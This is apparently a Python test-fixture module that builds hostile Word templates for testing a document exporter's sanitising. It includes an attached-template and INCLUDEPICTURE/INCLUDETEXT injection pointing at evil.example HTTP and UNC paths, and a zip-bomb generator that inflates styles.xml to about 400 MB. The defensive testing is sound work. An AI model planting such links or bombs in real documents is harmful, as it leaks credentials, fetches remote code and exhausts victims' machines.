"""Office templates an attacker (or a careless office) would hand over, made by the tests themselves.

``identifying_template``: the office's name in the header, the cover, the app properties (Company),
a custom property, a watermark and a style name, and coloured headings. ``linking_template``: an
attached template on a web server or a UNC share, a linked picture and fields that fetch files —
everything Word follows by itself when the bid is opened. ``template_bomb``: a template whose
``word/styles.xml`` inflates far past the zip limits.
"""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from pathlib import Path

from docx.shared import RGBColor

from tests.test_export_template import make_template

COMPANY = "华安信息技术有限公司"
HEADER_TEXT = f"{COMPANY} · 投标文件"
EVIL_HTTP = "http://evil.example/templates/office.dotm"
EVIL_UNC = r"\\evil.example\share\office.dotm"
EVIL_PICTURE = r"\\evil.example\share\logo.png"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewrite_zip(path: Path, edit: dict[str, object]) -> Path:
    """Rewrite members of the zip at ``path``: ``edit[name]`` is new bytes or a function of the old bytes."""
    with zipfile.ZipFile(path) as zin:
        items = [(info, zin.read(info)) for info in zin.infolist()]
    names = {info.filename for info, _ in items}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in items:
            change = edit.get(info.filename)
            zout.writestr(info, change(data) if callable(change) else change if change is not None else data)
        for name, change in edit.items():
            if name not in names:
                zout.writestr(name, change(b"") if callable(change) else change)  # type: ignore[arg-type]
    return path


def _add_rel(rels: bytes, r_id: str, reltype: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{r_id}" Type="{_REL}/{reltype}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def identifying_template(path: Path) -> Path:
    """A template that names the office everywhere a template can."""
    make_template(path)
    import docx

    doc = docx.Document(str(path))
    doc.sections[0].header.paragraphs[0].text = HEADER_TEXT
    doc.sections[0].footer.paragraphs[0].text = f"{COMPANY} 版权所有"
    doc.paragraphs[0].insert_paragraph_before(f"{COMPANY}（盖章）")
    style = doc.styles.add_style("华安信息技术正文", 1)
    style.font.color.rgb = RGBColor(0xC0, 0x00, 0x00)
    doc.styles["Normal"].font.color.rgb = RGBColor(0x1F, 0x4E, 0x79)
    doc.save(str(path))
    watermark = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="wm" type="#_x0000_t136">'
                 f'<v:textpath string="{COMPANY}"/></v:shape></w:pict></w:r></w:p>')
    app = ("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
           '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
           f"<Company>{COMPANY}</Company><Manager>华安投标部</Manager></Properties>").encode()
    custom = ("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
              '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
              'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
              '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="投标单位">'
              f"<vt:lpwstr>{COMPANY}</vt:lpwstr></property></Properties>").encode()

    def header(data: bytes) -> bytes:
        return data.replace(b"</w:hdr>", watermark.encode() + b"</w:hdr>")

    def types(data: bytes) -> bytes:
        extra = (b'<Override PartName="/docProps/custom.xml" '
                 b'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>')
        return data.replace(b"</Types>", extra + b"</Types>")

    def root_rels(data: bytes) -> bytes:
        return _add_rel(data, "rIdCustom1", "custom-properties", "docProps/custom.xml", False)

    with zipfile.ZipFile(path) as zf:
        header_name = next(n for n in zf.namelist() if re.fullmatch(r"word/header\d+\.xml", n))
    return rewrite_zip(path, {header_name: header, "docProps/app.xml": app, "docProps/custom.xml": custom,
                           "[Content_Types].xml": types, "_rels/.rels": root_rels})


def linking_template(path: Path, attached: str = EVIL_HTTP) -> Path:
    """A template whose settings attach ``attached`` and whose header holds fields and a picture that
    fetch files from a share."""
    make_template(path, cover=True)
    field_simple = (f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{EVIL_PICTURE}&quot; \\d "><w:r><w:t>徽标</w:t>'
                    "</w:r></w:fldSimple>")
    field_complex = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                     f'<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "{EVIL_UNC}" </w:instrText></w:r>'
                     '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>附件内容</w:t></w:r>'
                     '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    picture = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="logo" style="width:20pt;height:20pt">'
               f'<v:imagedata xmlns:r="{_REL}" r:id="rIdLinkedLogo"/></v:shape></w:pict></w:r>')
    paragraph = f"<w:p>{field_simple}{field_complex}{picture}</w:p>"

    with zipfile.ZipFile(path) as zf:
        header_name = next(n for n in zf.namelist() if re.fullmatch(r"word/header\d+\.xml", n))
    header_rels = f"word/_rels/{header_name.split('/')[-1]}.rels"

    def header(data: bytes) -> bytes:
        return data.replace(b"</w:hdr>", paragraph.encode() + b"</w:hdr>")

    def hrels(data: bytes) -> bytes:
        base = data or (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        b"</Relationships>")
        return _add_rel(base, "rIdLinkedLogo", "image", "file:///" + EVIL_PICTURE.replace("\\", "/"), True)

    def settings(data: bytes) -> bytes:
        return re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdEvilTemplate"/>', data, count=1)

    def settings_rels(data: bytes) -> bytes:
        base = data or (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        b"</Relationships>")
        return _add_rel(base, "rIdEvilTemplate", "attachedTemplate", attached, True)

    def settings_ns(data: bytes) -> bytes:
        data = settings(data)
        if b'xmlns:r="' not in data.split(b">", 2)[1]:
            data = data.replace(b"<w:settings ", f'<w:settings xmlns:r="{_REL}" '.encode(), 1)
        return data

    return rewrite_zip(path, {header_name: header, header_rels: hrels, "word/settings.xml": settings_ns,
                           "word/_rels/settings.xml.rels": settings_rels})


def template_bomb(path: Path, inflated_mb: int = 400) -> Path:
    """A real template whose ``word/styles.xml`` declares and inflates to about ``inflated_mb`` MB."""
    from tests.hostile_files import MB, write_zip

    source = zipfile.ZipFile(io.BytesIO(make_template(path).read_bytes()))
    members: list[tuple[str, bytes, int, int, int]] = []
    chunk = b" " * MB  # whitespace between two styles: well-formed XML, whatever its length
    for info in source.infolist():
        data = source.read(info.filename)
        if info.filename != "word/styles.xml":
            packed = zlib.compressobj(9, zlib.DEFLATED, -15)
            members.append((info.filename, packed.compress(data) + packed.flush(), len(data), zlib.crc32(data), 8))
            continue
        head, tail = data.split(b"<w:style ", 1)
        tail = b"<w:style " + tail
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        stream = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
        block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
        stream += block * inflated_mb + deflate.compress(tail) + deflate.flush(zlib.Z_FINISH)
        crc = zlib.crc32(head)
        for _ in range(inflated_mb):
            crc = zlib.crc32(chunk, crc)
        crc = zlib.crc32(tail, crc)
        members.append((info.filename, stream, len(head) + inflated_mb * MB + len(tail), crc, 8))
    return write_zip(path, members)
